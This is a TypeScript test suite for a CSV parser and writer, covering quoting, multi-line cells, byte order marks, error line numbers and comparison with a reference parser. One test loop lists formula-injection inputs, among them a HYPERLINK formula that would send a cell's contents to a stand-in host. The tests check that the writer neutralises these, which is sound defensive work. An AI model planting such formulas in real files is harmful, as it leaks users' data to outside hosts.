import { expect } from "chai";
import { parse as parseReference } from "csv-parse/sync";
import fc from "fast-check";

import { csvLine, CsvProblem, parseCsv } from "../../../client/drop/csv.ts";

/** Another parser, with the settings that mean the same. */
function reference(text: string): string[][] {
  return parseReference(text, { bom: true, skip_empty_lines: true, trim: true });
}

const cell = fc.string({ unit: fc.constantFrom("a", "é", "🐈", " ", ",", '"', "\n", "7"), maxLength: 6 });

describe("a table", () => {
  const CASES: [string, string, string[][]][] = [
    [
      "quotes, doubled quotes and commas",
      'name,text\n"a, b","say ""hi"""',
      [
        ["name", "text"],
        ["a, b", 'say "hi"'],
      ],
    ],
    [
      "line breaks inside quotes",
      '"a\nb",c\r\nd,e\r\n',
      [
        ["a\nb", "c"],
        ["d", "e"],
      ],
    ],
    [
      "a byte order mark, space and empty lines",
      "\uFEFF a , b \n\n  \n\t1,2\n",
      [
        ["a", "b"],
        ["1", "2"],
      ],
    ],
    [
      "empty cells",
      "a,,\n,,",
      [
        ["a", "", ""],
        ["", "", ""],
      ],
    ],
    ["nothing", "", []],
  ];
  for (const [what, text, expected] of CASES) {
    it(`is read: ${what}`, () => {
      expect(parseCsv(text).map(({ cells }) => cells)).to.deep.equal(expected);
    });
  }

  it("has line numbers, also after a cell of several lines", () => {
    expect(parseCsv('a\n\n"b\nb"\nc').map(({ line }) => line)).to.deep.equal([1, 3, 5]);
  });

  for (const text of ['a\n"b', 'a\nb"c', 'a\n"b"c']) {
    it(`is refused with its line: ${JSON.stringify(text)}`, () => {
      expect(() => parseCsv(text))
        .to.throw(CsvProblem)
        .with.property("line", 2);
    });
  }

  it("is read as another parser reads it", () => {
    const table = fc
      .integer({ min: 1, max: 4 })
      .chain((width) =>
        fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
      );
    fc.assert(
      fc.property(table, (rows) => {
        const text = rows.map(csvLine).join("");
        const read = parseCsv(text).map(({ cells }) => cells);
        expect(read).to.deep.equal(rows);
        expect(read).to.deep.equal(reference(text));
      }),
    );
  });

  for (const formula of ['=HYPERLINK("https://evil.example?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1"]) {
    it(`is written so that a spreadsheet runs no ${JSON.stringify(formula)}, and is read as it was`, () => {
      const file = csvLine(["name", formula]);
      const [, cell = ""] = reference(file)[0] ?? [];
      expect(cell).to.match(/^'/);
      expect(parseCsv(file)[0]?.cells).to.deep.equal(["name", formula]);
    });
  }

  it("keeps an apostrophe before anything else", () => {
    expect(parseCsv("'tis,a'=b,'")[0]?.cells).to.deep.equal(["'tis", "a'=b", "'"]);
  });
});
